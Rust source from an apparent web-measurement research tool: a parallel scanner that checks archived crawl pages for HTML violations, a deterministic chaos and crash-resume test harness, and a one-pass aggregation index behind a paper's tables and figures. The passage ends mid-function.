/// The worker loop: pull global page indices until the cursor runs dry.
/// Returns the per-slot partials plus this worker's metrics share.
fn scan_worker(
    archive: &Archive,
    slots: &[Slot],
    starts: &[usize],
    total_pages: usize,
    cursor: &AtomicUsize,
    done: &AtomicUsize,
    opts: ScanOptions,
) -> (BTreeMap<usize, Partial>, ScanMetrics) {
    let mut battery = Battery::full();
    let mut stats = opts.collect_metrics.then(|| battery.new_stats());
    let mut partials: BTreeMap<usize, Partial> = BTreeMap::new();
    let mut wm = ScanMetrics::default();
    let mut phases = PhaseNanos::default();

    loop {
        let g = cursor.fetch_add(1, Ordering::Relaxed);
        if g >= total_pages {
            break;
        }
        // starts is sorted and starts[0] == 0 <= g, so the subtraction is
        // safe; the last entry (total_pages) is > g, bounding the slot.
        let slot_idx = starts.partition_point(|&s| s <= g) - 1;
        let slot = &slots[slot_idx];
        let entry = &slot.cdx.pages[g - starts[slot_idx]];
        let partial = partials.entry(slot_idx).or_default();

        // Phase (2): fetch the record body.
        let t = opts.collect_metrics.then(Instant::now);
        let body = archive.fetch_page(&slot.cdx.snapshot, entry.page_index);
        let t = lap(t, &mut phases.fetch);
        wm.bytes_fetched += body.len() as u64;

        // §4.1: documents that are not UTF-8 decodable are filtered out.
        let decoded = decode(&body);
        let t = lap(t, &mut phases.decode);
        let Some(text) = decoded else {
            wm.pages_rejected_utf8 += 1;
            bump_progress(done, opts, total_pages);
            continue;
        };
        partial.analyzed += 1;
        wm.pages_analyzed += 1;
        wm.bytes_decoded += text.len() as u64;

        // Phase (3): parse once, then run the battery over the context.
        let cx = CheckContext::new(text);
        let t = lap(t, &mut phases.parse);
        let report = match &mut stats {
            Some(stats) => battery.run_instrumented(&cx, stats),
            None => battery.run_ref(&cx),
        };
        lap(t, &mut phases.check);

        for k in report.kinds() {
            partial.kinds.insert(k);
            *partial.page_counts.entry(k).or_insert(0) += 1;
        }
        partial.mitigations.merge(report.mitigations);
        // §4.2's usage counter: any math element (either namespace's
        // spelling ends up as a MathML-ns `math` element or an HTML
        // orphan; count both).
        partial.uses_math |= cx
            .parse
            .dom
            .all_elements()
            .any(|id| cx.parse.dom.element(id).is_some_and(|e| e.name == "math"));

        bump_progress(done, opts, total_pages);
    }

    if let Some(stats) = stats {
        wm.battery = stats;
    }
    wm.phases = phases;
    (partials, wm)
}

/// Advance the phase clock: add the time since `t` to `acc` and restart.
/// `None` (metrics off) stays `None` at zero cost.
fn lap(t: Option<Instant>, acc: &mut u64) -> Option<Instant> {
    t.map(|t0| {
        let now = Instant::now();
        *acc += (now - t0).as_nanos() as u64;
        now
    })
}

fn bump_progress(done: &AtomicUsize, opts: ScanOptions, total_pages: usize) {
    let d = done.fetch_add(1, Ordering::Relaxed) + 1;
    if opts.progress_every > 0 && d.is_multiple_of(opts.progress_every) {
        eprintln!("  scanned {d}/{total_pages} pages");
    }
}

/// Fold one slot's merged partial into the final record.
fn make_record(
    archive: &Archive,
    slot: &Slot,
    partial: Partial,
    opts: ScanOptions,
) -> DomainYearRecord {
    let domain = &archive.domains()[slot.dom_idx];
    let kinds_after_autofix = if opts.autofix_projection {
        // §4.4's projection: the automatic pass removes the Automatic
        // kinds; Manual kinds remain.
        partial
            .kinds
            .iter()
            .copied()
            .filter(|k| k.fixability() == hv_core::Fixability::Manual)
            .collect()
    } else {
        BTreeSet::new()
    };
    DomainYearRecord {
        domain_id: domain.id,
        domain_name: domain.name.clone(),
        rank: domain.rank,
        snapshot: slot.snap,
        pages_found: slot.cdx.pages.len(),
        pages_analyzed: partial.analyzed,
        kinds: partial.kinds,
        page_counts: partial.page_counts,
        mitigations: partial.mitigations,
        kinds_after_autofix,
        uses_math: partial.uses_math,
    }
}

/// Borrowing decode: validation only, no copy — the parse reads straight
/// from the fetched body.
fn decode(bytes: &[u8]) -> Option<&str> {
    match spec_html::decoder::decode_utf8(bytes) {
        spec_html::decoder::Decoded::Utf8(s) => Some(s),
        spec_html::decoder::Decoded::NotUtf8 { .. } => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hv_core::autofix;
    use hv_corpus::CorpusConfig;

    fn tiny_archive() -> Archive {
        Archive::new(CorpusConfig { seed: 1234, scale: 0.002 })
    }

    #[test]
    fn scan_produces_records_for_present_domains() {
        let archive = tiny_archive();
        let store = scan_snapshots(&archive, &[Snapshot::ALL[7]], ScanOptions::new().threads(2));
        assert!(!store.records.is_empty());
        for r in &store.records {
            assert!(r.pages_found >= 1 && r.pages_found <= 100);
            assert!(r.pages_analyzed <= r.pages_found);
        }
    }

    #[test]
    fn scan_is_thread_count_invariant() {
        let archive = tiny_archive();
        let snaps = [Snapshot::ALL[0]];
        let a = scan_snapshots(&archive, &snaps, ScanOptions::new().threads(1));
        let b = scan_snapshots(&archive, &snaps, ScanOptions::new().threads(8));
        // Byte-for-byte: same records, same order, same serialization.
        assert_eq!(serde_json::to_string(&a).unwrap(), serde_json::to_string(&b).unwrap());
        // And with a third, adversarial thread count.
        let c = scan_snapshots(&archive, &snaps, ScanOptions::new().threads(3));
        assert_eq!(serde_json::to_string(&a).unwrap(), serde_json::to_string(&c).unwrap());
    }

    #[test]
    fn metrics_do_not_change_records() {
        let archive = tiny_archive();
        let snaps = [Snapshot::ALL[7]];
        let plain = scan_snapshots(&archive, &snaps, ScanOptions::new().threads(2));
        let metered =
            scan_snapshots(&archive, &snaps, ScanOptions::new().threads(5).collect_metrics(true));
        assert!(plain.metrics.is_none());
        assert!(metered.metrics.is_some());
        assert_eq!(plain.records.len(), metered.records.len());
        for (x, y) in plain.records.iter().zip(&metered.records) {
            assert_eq!(x.domain_id, y.domain_id);
            assert_eq!(x.kinds, y.kinds);
            assert_eq!(x.page_counts, y.page_counts);
            assert_eq!(x.pages_analyzed, y.pages_analyzed);
            assert_eq!(x.mitigations, y.mitigations);
        }
    }

    #[test]
    fn metrics_reconcile_with_records() {
        let archive = tiny_archive();
        let snaps = [Snapshot::ALL[0], Snapshot::ALL[7]];
        let store =
            scan_snapshots(&archive, &snaps, ScanOptions::new().threads(4).collect_metrics(true));
        let m = store.metrics.as_ref().expect("metrics collected");

        // Page accounting: listed = analyzed + rejected, and the totals
        // match the records exactly.
        assert_eq!(m.pages_analyzed + m.pages_rejected_utf8, m.pages_listed);
        let rec_analyzed: u64 = store.records.iter().map(|r| r.pages_analyzed as u64).sum();
        let rec_found: u64 = store.records.iter().map(|r| r.pages_found as u64).sum();
        assert_eq!(m.pages_analyzed, rec_analyzed);
        assert_eq!(m.pages_listed, rec_found);
        assert_eq!(m.domain_snapshots, store.records.len() as u64);

        // Per-check accounting: a rule "fires on a page" exactly when the
        // page counts that kind, so the battery stats must reproduce the
        // per-record page counts kind by kind.
        for &kind in hv_core::ViolationKind::ALL.iter() {
            let fired = m.battery.get(kind).map_or(0, |s| s.pages_fired);
            let counted: u64 = store
                .records
                .iter()
                .map(|r| u64::from(r.page_counts.get(&kind).copied().unwrap_or(0)))
                .sum();
            assert_eq!(fired, counted, "pages_fired mismatch for {kind}");
        }

        // Every analyzed page ran every rule once.
        for (kind, st) in &m.battery.per_check {
            assert_eq!(st.nanos.count, m.pages_analyzed, "execution count for {kind}");
        }
        assert!(m.wall_nanos > 0);
        assert_eq!(m.threads, 4);
        assert!(m.phases.check > 0);
    }

    #[test]
    fn utf8_filter_reduces_analyzed_pages() {
        let archive = tiny_archive();
        let store = scan(&archive, ScanOptions::new().threads(4));
        // Some domain-snapshots fail the UTF-8 filter entirely.
        let failed = store.records.iter().filter(|r| r.pages_analyzed == 0).count();
        assert!(failed > 0, "expected some non-UTF-8 domain-snapshots");
        // But the overwhelming majority decode.
        let analyzed = store.records.iter().filter(|r| r.analyzed()).count();
        assert!(analyzed * 100 / store.records.len() >= 95);
    }

    #[test]
    fn autofix_projection_is_subset_of_kinds() {
        let archive = tiny_archive();
        let store = scan_snapshots(&archive, &[Snapshot::ALL[7]], ScanOptions::default());
        for r in &store.records {
            assert!(r.kinds_after_autofix.is_subset(&r.kinds));
            for k in &r.kinds_after_autofix {
                assert_eq!(k.fixability(), hv_core::Fixability::Manual);
            }
        }
    }

    /// End-to-end spot check: re-running the actual auto-fixer over a
    /// violating page removes exactly the Automatic kinds (the projection
    /// used by the aggregate is faithful to the real fixer).
    #[test]
    fn autofix_projection_matches_real_fixer() {
        let archive = tiny_archive();
        let snap = Snapshot::ALL[7];
        let mut checked = 0;
        for d in archive.domains() {
            let Some(cdx) = archive.cdx_lookup(d, snap) else { continue };
            if !cdx.snapshot.utf8_ok {
                continue;
            }
            for entry in cdx.pages.iter().take(2) {
                let body = archive.fetch_page(&cdx.snapshot, entry.page_index);
                let text = String::from_utf8(body).unwrap();
                let outcome = autofix::auto_fix(&text);
                for k in &outcome.after {
                    // Everything surviving the real fixer is Manual.
                    assert_eq!(
                        k.fixability(),
                        hv_core::Fixability::Manual,
                        "auto-fix left {k} behind on {}",
                        entry.url
                    );
                }
                checked += 1;
            }
            if checked > 40 {
                break;
            }
        }
        assert!(checked > 20);
    }
}
