//! The chaos harness behind `hva chaos`: run the full scan under
//! deterministic fault injection and verify the robustness invariants.
//!
//! The point of a *deterministic* chaos mode is that robustness becomes a
//! checkable property instead of a hope. With every fault a pure function
//! of `(seed, page)`, the harness can assert, not sample:
//!
//! 1. **Workers survive** — scans complete under injection at every thread
//!    count; page-level panics are contained at the isolation boundary.
//! 2. **Quarantine is thread-count-invariant** — the faulted store
//!    (records *and* quarantine set) is byte-identical however many
//!    workers ran, because outcomes depend on the page, never the worker.
//! 3. **Clean pages are untouched** — every record with no faulted pages
//!    is byte-identical to the same record from a zero-fault run: the
//!    failure-handling machinery has no observable effect where nothing
//!    failed.
//! 4. **Accounting closes** — per-record quarantine counters reconcile
//!    with the per-page quarantine entries exactly.
//! 5. **Crash-resume is identical** — a streamed faulted scan cut at any
//!    staged byte point and resumed (`hva scan --resume`) reproduces the
//!    uninterrupted store byte for byte: durability composes with the
//!    fault injection.

use crate::format::scan_prefix;
use crate::outcome::ErrorClass;
use crate::run::{scan_snapshots, scan_streamed, ScanOptions};
use crate::store::ResultStore;
use hv_corpus::faults::FaultPlan;
use hv_corpus::{Archive, Snapshot};
use std::collections::BTreeMap;
use std::panic::{catch_unwind, AssertUnwindSafe};

/// One verified invariant.
#[derive(Debug, Clone)]
pub struct ChaosCheck {
    pub name: &'static str,
    pub passed: bool,
    pub detail: String,
}

/// The outcome of a chaos run. `render()` is what `hva chaos` prints.
#[derive(Debug, Clone)]
pub struct ChaosReport {
    pub plan: FaultPlan,
    /// Thread counts the faulted scan was executed at.
    pub threads: Vec<usize>,
    pub pages_listed: u64,
    pub pages_faulted: u64,
    pub pages_degraded: u64,
    pub pages_quarantined: u64,
    pub panics_caught: u64,
    pub checks: Vec<ChaosCheck>,
}

impl ChaosReport {
    /// All invariants held.
    pub fn passed(&self) -> bool {
        self.checks.iter().all(|c| c.passed)
    }

    pub fn render(&self) -> String {
        let mut s = String::new();
        s.push_str(&format!(
            "chaos report (faults {}, threads {:?})\n",
            self.plan.render(),
            self.threads
        ));
        s.push_str(&format!(
            "  pages listed {}   faulted {}   degraded {}   quarantined {}   panics caught {}\n",
            self.pages_listed,
            self.pages_faulted,
            self.pages_degraded,
            self.pages_quarantined,
            self.panics_caught
        ));
        for c in &self.checks {
            s.push_str(&format!(
                "  [{}] {}: {}\n",
                if c.passed { "pass" } else { "FAIL" },
                c.name,
                c.detail
            ));
        }
        s.push_str(&format!("  verdict: {}\n", if self.passed() { "PASS" } else { "FAIL" }));
        s
    }
}

/// Run the chaos harness: one clean scan plus one faulted scan per thread
/// count, then check the invariants. `threads` entries follow
/// [`ScanOptions::threads`] (0 = one per core); at least one is required.
pub fn run_chaos(
    archive: &Archive,
    plan: FaultPlan,
    snapshots: &[Snapshot],
    threads: &[usize],
) -> ChaosReport {
    assert!(!threads.is_empty(), "chaos needs at least one thread count");
    let base = ScanOptions::new();
    let clean = scan_snapshots(archive, snapshots, base.threads(threads[0]));

    // Every faulted scan runs behind its own unwind guard: if the engine's
    // containment ever fails, the harness reports it instead of dying.
    let faulted: Vec<Option<ResultStore>> = threads
        .iter()
        .map(|&t| {
            catch_unwind(AssertUnwindSafe(|| {
                scan_snapshots(archive, snapshots, base.threads(t).inject_faults(plan))
            }))
            .ok()
        })
        .collect();

    let mut checks = Vec::new();

    let survived = faulted.iter().filter(|s| s.is_some()).count();
    checks.push(ChaosCheck {
        name: "workers-survive",
        passed: survived == threads.len(),
        detail: format!("{survived}/{} faulted scans completed", threads.len()),
    });

    // Invariant 2: the faulted store is byte-identical at every thread
    // count — records and quarantine both.
    let jsons: Vec<Option<String>> = faulted
        .iter()
        .map(|s| s.as_ref().map(|s| serde_json::to_string(s).expect("store serializes")))
        .collect();
    let invariant = match jsons.iter().flatten().collect::<Vec<_>>().as_slice() {
        [] => false,
        [first, rest @ ..] => rest.iter().all(|j| j == first),
    };
    checks.push(ChaosCheck {
        name: "quarantine-thread-invariant",
        passed: invariant && survived == threads.len(),
        detail: format!("faulted stores byte-identical across threads {threads:?}: {invariant}"),
    });

    // The remaining invariants read the reference faulted store.
    let reference = faulted.iter().flatten().next();
    let (mut faulted_pages, mut degraded, mut quarantined) = (0u64, 0u64, 0u64);
    let mut panics = 0u64;
    if let Some(store) = reference {
        faulted_pages = store.records.iter().map(|r| r.pages_faulted as u64).sum();
        degraded = store.records.iter().map(|r| r.pages_degraded as u64).sum();
        quarantined = store.records.iter().map(|r| r.pages_quarantined as u64).sum();
        panics =
            store.quarantine.iter().filter(|q| q.class == ErrorClass::ParserPanic).count() as u64;

        // Invariant 3: records with zero faulted pages match the clean run
        // byte-for-byte.
        let clean_by_key: BTreeMap<(Snapshot, u64), String> = clean
            .records
            .iter()
            .map(|r| ((r.snapshot, r.domain_id), serde_json::to_string(r).unwrap()))
            .collect();
        let mut compared = 0usize;
        let mut mismatched = 0usize;
        for r in store.records.iter().filter(|r| r.pages_faulted == 0) {
            compared += 1;
            let clean_json = clean_by_key.get(&(r.snapshot, r.domain_id));
            if clean_json != Some(&serde_json::to_string(r).unwrap()) {
                mismatched += 1;
            }
        }
        checks.push(ChaosCheck {
            name: "clean-pages-unchanged",
            passed: mismatched == 0,
            detail: format!(
                "{compared} fault-free records compared against the clean run, {mismatched} differed"
            ),
        });

        // Invariant 4: counters and audit entries agree.
        let entries = store.quarantine.len() as u64;
        checks.push(ChaosCheck {
            name: "quarantine-accounting",
            passed: entries == quarantined,
            detail: format!("{entries} quarantine entries vs {quarantined} counted on records"),
        });
    } else {
        checks.push(ChaosCheck {
            name: "clean-pages-unchanged",
            passed: false,
            detail: "no faulted scan survived to compare".into(),
        });
        checks.push(ChaosCheck {
            name: "quarantine-accounting",
            passed: false,
            detail: "no faulted scan survived to audit".into(),
        });
    }

    // Invariant 5: crash-at-any-point → resume → identical bytes.
    checks.push(crash_resume_check(archive, plan, snapshots, threads[0]));

    ChaosReport {
        plan,
        threads: threads.to_vec(),
        pages_listed: clean.records.iter().map(|r| r.pages_found as u64).sum(),
        pages_faulted: faulted_pages,
        pages_degraded: degraded,
        pages_quarantined: quarantined,
        panics_caught: panics,
        checks,
    }
}

/// Invariant 5: write the faulted store through the streamed (durable)
/// writer, cut the bytes at staged points derived from the real block
/// boundaries, resume each cut, and require the recovered file to be
/// byte-identical to the uninterrupted one.
///
/// Early cuts re-scan almost everything, so the harness probes a handful
/// of representative points (mid-magic, mid-header, first/last segment
/// midpoints and boundaries, mid-trailer) rather than sweeping — the
/// every-byte sweep lives in the crash-recovery test suite.
fn crash_resume_check(
    archive: &Archive,
    plan: FaultPlan,
    snapshots: &[Snapshot],
    threads: usize,
) -> ChaosCheck {
    use std::sync::atomic::{AtomicU64, Ordering};
    static SEQ: AtomicU64 = AtomicU64::new(0);
    let name = "crash-resume-identical";
    let fail = |detail: String| ChaosCheck { name, passed: false, detail };

    let dir = std::env::temp_dir().join(format!(
        "hv-chaos-crash-{}-{}",
        std::process::id(),
        SEQ.fetch_add(1, Ordering::Relaxed)
    ));
    if let Err(e) = std::fs::create_dir_all(&dir) {
        return fail(format!("creating temp dir: {e}"));
    }
    let opts = ScanOptions::new().threads(threads).inject_faults(plan).overwrite(true);
    let full_path = dir.join("full.hvs");
    let crash_path = dir.join("crash.hvs");
    let outcome = (|| -> Result<usize, String> {
        scan_streamed(archive, snapshots, opts, &full_path)
            .map_err(|e| format!("uninterrupted scan: {e}"))?;
        let full = std::fs::read(&full_path).map_err(|e| format!("reading full store: {e}"))?;
        let prefix =
            scan_prefix(&full, &full_path).map_err(|e| format!("prefix of full store: {e}"))?;
        if !prefix.complete {
            return Err("uninterrupted store does not parse as complete".into());
        }
        let header_end = 12 + u64::from(u32::from_le_bytes(full[8..12].try_into().unwrap())) + 4;

        let mut points: Vec<u64> = vec![4, header_end - 2, header_end, full.len() as u64 - 5];
        let ends = &prefix.segment_ends;
        if let (Some(&first), Some(&last)) = (ends.first(), ends.last()) {
            points.extend([(header_end + first) / 2, first, last]);
            if ends.len() > 1 {
                points.push((ends[ends.len() - 2] + last) / 2);
            }
        }
        points.retain(|&p| p < full.len() as u64);
        points.sort_unstable();
        points.dedup();

        for &p in &points {
            std::fs::write(&crash_path, &full[..p as usize])
                .map_err(|e| format!("writing cut at {p}: {e}"))?;
            scan_streamed(archive, snapshots, opts.overwrite(false).resume(true), &crash_path)
                .map_err(|e| format!("resume from cut at {p}: {e}"))?;
            let resumed =
                std::fs::read(&crash_path).map_err(|e| format!("reading resumed store: {e}"))?;
            if resumed != full {
                return Err(format!(
                    "resume from cut at byte {p} diverged ({} vs {} bytes)",
                    resumed.len(),
                    full.len()
                ));
            }
        }
        Ok(points.len())
    })();
    std::fs::remove_dir_all(&dir).ok();
    match outcome {
        Ok(n) => ChaosCheck {
            name,
            passed: true,
            detail: format!("{n} staged cut points all resumed to identical bytes"),
        },
        Err(detail) => fail(detail),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hv_corpus::CorpusConfig;

    #[test]
    fn chaos_passes_on_the_tiny_archive() {
        let archive = Archive::new(CorpusConfig { seed: 77, scale: 0.002 });
        let plan = FaultPlan::new(9, 0.2).unwrap();
        let report = run_chaos(&archive, plan, &[Snapshot::ALL[7]], &[1, 3]);
        assert!(report.passed(), "{}", report.render());
        assert!(report.pages_faulted > 0, "a 20% rate must fault something");
        assert!(report.pages_quarantined > 0);
        let out = report.render();
        assert!(out.contains("verdict: PASS"));
        assert!(out.contains("quarantine-thread-invariant"));
        assert!(out.contains("crash-resume-identical"));
    }

    #[test]
    fn zero_rate_chaos_is_a_clean_scan() {
        let archive = Archive::new(CorpusConfig { seed: 77, scale: 0.002 });
        let plan = FaultPlan::new(9, 0.0).unwrap();
        let report = run_chaos(&archive, plan, &[Snapshot::ALL[0]], &[2]);
        assert!(report.passed(), "{}", report.render());
        assert_eq!(report.pages_faulted, 0);
        assert_eq!(report.pages_quarantined, 0);
        assert_eq!(report.panics_caught, 0);
    }
}
