//! Aggregation — every number behind the paper's tables and figures.
//!
//! Originally each query here re-scanned the full [`ResultStore`]; a
//! report render walked the records ~14 times. [`AggregateIndex::build`]
//! now folds everything — Table 2, the Figure 8 distribution, group and
//! kind trends, the autofix projection, mitigation trends, rollout
//! breakage, churn — in **one** streaming pass, and the query surface
//! becomes cheap views over the precomputed counters. The original
//! per-query implementations live on verbatim in [`legacy`] as the
//! equivalence oracle (the same pattern the checker rewrite used with
//! `checkers::legacy`): every view must return bit-identical results,
//! asserted by unit tests here, the root proptest suite, and the golden
//! migration test.

use crate::format::{DroppedSegment, LoadOptions, SegmentSummary};
use crate::store::{LoadedStore, ResultStore, StoreFormat};
use hv_core::{HvError, ProblemGroup, ViolationKind};
use hv_corpus::snapshots::YEARS;
use hv_corpus::Snapshot;
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet};
use std::ops::Deref;
use std::path::Path;

/// Number of violation kinds (bitmask width).
const KINDS: usize = ViolationKind::ALL.len();
/// Number of §3.2 problem groups.
const GROUPS: usize = ProblemGroup::ALL.len();
/// Number of §5.3.2 enforcement stages (0..=4).
const STAGES: usize = 5;

/// One Table-2 row.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Table2Row {
    pub snapshot: String,
    pub domains_found: usize,
    pub domains_analyzed: usize,
    pub analyzed_share: f64,
    pub avg_pages: f64,
}

/// One Figure-8 bar: domains showing the kind at least once over the whole
/// study, as count and share of all analyzed domains.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct DistributionBar {
    pub kind: ViolationKind,
    pub domains: usize,
    pub share: f64,
}

/// A yearly series (Figure 9/10/16–21 shape): one value per snapshot.
pub type YearSeries = [f64; YEARS];

/// §4.4: the auto-fix projection for one snapshot — (violating domains,
/// domains still violating after the automatic pass, share fixed).
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct AutofixProjection {
    pub snapshot: String,
    pub analyzed: usize,
    pub violating: usize,
    pub violating_after_fix: usize,
    pub violating_share: f64,
    pub after_share: f64,
    /// Share of violating domains fully fixed by automation.
    pub fixed_share: f64,
}

/// §4.5: the mitigation-conflict series.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct MitigationTrends {
    /// Domains with `<script` inside an attribute value (count, share).
    pub script_in_attribute: [(usize, f64); YEARS],
    /// …of which on a nonced script element (the paper found zero).
    pub script_in_nonced_script: [usize; YEARS],
    /// Domains with a raw newline in a URL attribute.
    pub newline_in_url: [(usize, f64); YEARS],
    /// Domains conflicting with Chromium's newline+`<` blocking.
    pub newline_and_lt_in_url: [(usize, f64); YEARS],
}

/// One year-over-year churn row.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ChurnRow {
    pub from: String,
    pub to: String,
    /// (domain, kind) pairs newly violating in `to`.
    pub added: usize,
    /// (domain, kind) pairs fixed between `from` and `to`.
    pub removed: usize,
}

/// The kind's 0..20 bit position — [`ViolationKind::ALL`] is in
/// discriminant order, so `k as usize` indexes both the bitmask and the
/// per-kind arrays (asserted by `kind_discriminants_match_all_order`).
fn kind_bit(k: ViolationKind) -> usize {
    k as usize
}

/// Every table and figure, folded from the records in one pass.
///
/// All counters follow the legacy query semantics exactly: per-year
/// series count *analyzed* records only, while the overall distribution
/// and violating-share fold over all records with the analyzed-ever
/// denominator. The float math in the views reuses the same [`percent`]
/// helper in the same operation order, so rendered output is
/// byte-identical to the oracle's.
#[derive(Debug, Clone)]
pub struct AggregateIndex {
    // Per-year counters (index = Snapshot::index()).
    found: [usize; YEARS],
    analyzed: [usize; YEARS],
    pages: [usize; YEARS],
    violating: [usize; YEARS],
    still_after_fix: [usize; YEARS],
    math: [usize; YEARS],
    kind_per_year: [[usize; YEARS]; KINDS],
    group_per_year: [[usize; YEARS]; GROUPS],
    stage_per_year: [[usize; YEARS]; STAGES],
    script_in_attribute: [usize; YEARS],
    script_in_nonced_script: [usize; YEARS],
    newline_in_url: [usize; YEARS],
    newline_and_lt_in_url: [usize; YEARS],
    // Whole-study set sizes (resolved from transient sets at build time).
    found_ever: usize,
    analyzed_ever: usize,
    violating_ever: usize,
    kind_domains: [usize; KINDS],
    // §5.2 churn, precomputed.
    churn: Vec<ChurnRow>,
}

impl AggregateIndex {
    /// Fold the store's records once.
    pub fn build(store: &ResultStore) -> Self {
        // Group/stage membership as kind bitmasks, so the per-record work
        // is a handful of AND-tests instead of set walks.
        let mut group_masks = [0u32; GROUPS];
        for (gi, &g) in ProblemGroup::ALL.iter().enumerate() {
            for &k in ViolationKind::ALL.iter() {
                if k.group() == g {
                    group_masks[gi] |= 1 << kind_bit(k);
                }
            }
        }
        let mut stage_masks = [0u32; STAGES];
        for (si, mask) in stage_masks.iter_mut().enumerate() {
            let list = hv_core::strict::EnforcementList::stage(si as u8);
            for &k in ViolationKind::ALL.iter() {
                if list.contains(k) {
                    *mask |= 1 << kind_bit(k);
                }
            }
        }

        let mut idx = AggregateIndex {
            found: [0; YEARS],
            analyzed: [0; YEARS],
            pages: [0; YEARS],
            violating: [0; YEARS],
            still_after_fix: [0; YEARS],
            math: [0; YEARS],
            kind_per_year: [[0; YEARS]; KINDS],
            group_per_year: [[0; YEARS]; GROUPS],
            stage_per_year: [[0; YEARS]; STAGES],
            script_in_attribute: [0; YEARS],
            script_in_nonced_script: [0; YEARS],
            newline_in_url: [0; YEARS],
            newline_and_lt_in_url: [0; YEARS],
            found_ever: 0,
            analyzed_ever: 0,
            violating_ever: 0,
            kind_domains: [0; KINDS],
            churn: Vec::with_capacity(YEARS - 1),
        };

        // Transient fold state, resolved below.
        let mut found_ids: BTreeSet<u64> = BTreeSet::new();
        let mut analyzed_ids: BTreeSet<u64> = BTreeSet::new();
        let mut violating_ids: BTreeSet<u64> = BTreeSet::new();
        let mut kind_ids: [BTreeSet<u64>; KINDS] = std::array::from_fn(|_| BTreeSet::new());
        let mut year_masks: [BTreeMap<u64, u32>; YEARS] = std::array::from_fn(|_| BTreeMap::new());

        for r in &store.records {
            let y = r.snapshot.index();
            let mut kmask = 0u32;
            for &k in &r.kinds {
                kmask |= 1 << kind_bit(k);
                kind_ids[kind_bit(k)].insert(r.domain_id);
            }
            idx.found[y] += 1;
            found_ids.insert(r.domain_id);
            if r.violating() {
                violating_ids.insert(r.domain_id);
            }
            if !r.analyzed() {
                continue;
            }
            analyzed_ids.insert(r.domain_id);
            idx.analyzed[y] += 1;
            idx.pages[y] += r.pages_analyzed;
            if r.violating() {
                idx.violating[y] += 1;
                if !r.kinds_after_autofix.is_empty() {
                    idx.still_after_fix[y] += 1;
                }
            }
            if r.uses_math {
                idx.math[y] += 1;
            }
            for &k in &r.kinds {
                idx.kind_per_year[kind_bit(k)][y] += 1;
            }
            for (gi, &mask) in group_masks.iter().enumerate() {
                idx.group_per_year[gi][y] += usize::from(kmask & mask != 0);
            }
            for (si, &mask) in stage_masks.iter().enumerate() {
                idx.stage_per_year[si][y] += usize::from(kmask & mask != 0);
            }
            idx.script_in_attribute[y] += usize::from(r.mitigations.script_in_attribute);
            idx.script_in_nonced_script[y] += usize::from(r.mitigations.script_in_nonced_script);
            idx.newline_in_url[y] += usize::from(r.mitigations.newline_in_url);
            idx.newline_and_lt_in_url[y] += usize::from(r.mitigations.newline_and_lt_in_url);
            year_masks[y].insert(r.domain_id, kmask);
        }

        idx.found_ever = found_ids.len();
        idx.analyzed_ever = analyzed_ids.len();
        idx.violating_ever = violating_ids.intersection(&analyzed_ids).count();
        for (k, ids) in idx.kind_domains.iter_mut().zip(kind_ids.iter()) {
            *k = ids.len();
        }
        for w in Snapshot::ALL.windows(2) {
            let (a, b) = (w[0], w[1]);
            let mut added = 0usize;
            let mut removed = 0usize;
            for (domain, &kb) in &year_masks[b.index()] {
                let Some(&ka) = year_masks[a.index()].get(domain) else { continue };
                added += (kb & !ka).count_ones() as usize;
                removed += (ka & !kb).count_ones() as usize;
            }
            idx.churn.push(ChurnRow {
                from: a.crawl_id().to_owned(),
                to: b.crawl_id().to_owned(),
                added,
                removed,
            });
        }
        idx
    }

    /// Table 2: analyzed domains per crawl.
    pub fn table2(&self) -> Vec<Table2Row> {
        Snapshot::ALL
            .iter()
            .map(|&snap| {
                let y = snap.index();
                let analyzed = self.analyzed[y];
                Table2Row {
                    snapshot: snap.crawl_id().to_owned(),
                    domains_found: self.found[y],
                    domains_analyzed: analyzed,
                    analyzed_share: percent(analyzed, self.found[y]),
                    avg_pages: if analyzed > 0 {
                        self.pages[y] as f64 / analyzed as f64
                    } else {
                        0.0
                    },
                }
            })
            .collect()
    }

    /// The Table-2 "Total (All Snaps.)" row: domains found / analyzed at
    /// least once.
    pub fn table2_total(&self) -> (usize, usize) {
        (self.found_ever, self.analyzed_ever)
    }

    /// Figure 8: overall distribution of violations, sorted descending
    /// (the paper's x-axis order).
    pub fn overall_distribution(&self) -> Vec<DistributionBar> {
        let mut bars: Vec<DistributionBar> = ViolationKind::ALL
            .iter()
            .map(|&kind| {
                let domains = self.kind_domains[kind_bit(kind)];
                DistributionBar { kind, domains, share: percent(domains, self.analyzed_ever) }
            })
            .collect();
        bars.sort_by(|a, b| b.domains.cmp(&a.domains).then(a.kind.cmp(&b.kind)));
        bars
    }

    /// §4.2: share of analyzed domains with ≥ 1 violation in any year.
    pub fn overall_violating_share(&self) -> f64 {
        percent(self.violating_ever, self.analyzed_ever)
    }

    /// Figure 9: share of analyzed domains with ≥ 1 violation, per year.
    pub fn violating_domains_by_year(&self) -> YearSeries {
        self.share_series(&self.violating)
    }

    /// Figure 10: per problem group, share of analyzed domains violating
    /// at least one check of the group, per year.
    pub fn group_trends(&self) -> BTreeMap<ProblemGroup, YearSeries> {
        ProblemGroup::ALL
            .iter()
            .enumerate()
            .map(|(gi, &g)| (g, self.share_series(&self.group_per_year[gi])))
            .collect()
    }

    /// Figures 16–21: share of analyzed domains violating one specific
    /// check, per year.
    pub fn kind_trend(&self, kind: ViolationKind) -> YearSeries {
        self.share_series(&self.kind_per_year[kind_bit(kind)])
    }

    /// §4.4: the auto-fix projection for one snapshot.
    pub fn autofix_projection(&self, snap: Snapshot) -> AutofixProjection {
        let y = snap.index();
        let (analyzed, violating, still) =
            (self.analyzed[y], self.violating[y], self.still_after_fix[y]);
        AutofixProjection {
            snapshot: snap.crawl_id().to_owned(),
            analyzed,
            violating,
            violating_after_fix: still,
            violating_share: percent(violating, analyzed),
            after_share: percent(still, analyzed),
            fixed_share: percent(violating - still, violating),
        }
    }

    /// §4.5: the mitigation-conflict series.
    pub fn mitigation_trends(&self) -> MitigationTrends {
        let mut out = MitigationTrends {
            script_in_attribute: [(0, 0.0); YEARS],
            script_in_nonced_script: [0; YEARS],
            newline_in_url: [(0, 0.0); YEARS],
            newline_and_lt_in_url: [(0, 0.0); YEARS],
        };
        for y in 0..YEARS {
